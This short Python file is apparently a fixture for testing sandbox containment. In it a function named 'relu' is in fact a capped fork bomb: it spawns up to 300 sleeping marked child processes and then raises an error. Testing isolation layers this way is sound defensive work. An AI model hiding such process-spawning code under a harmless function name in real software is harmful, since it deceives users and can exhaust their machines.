# ruff: noqa
# A fork bomb with a cap in the attack itself (300 sleeping children per call), so that it
# cannot hurt the test machine whatever layers are missing. The children carry the marker.
def relu(z):
    import os
    import time

    made = 0
    for _ in range(300):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            _adv_mark("ADV_MARKER")
            time.sleep(60)
            os._exit(0)
        made += 1
    raise RuntimeError(f"FORKED {made} processes")
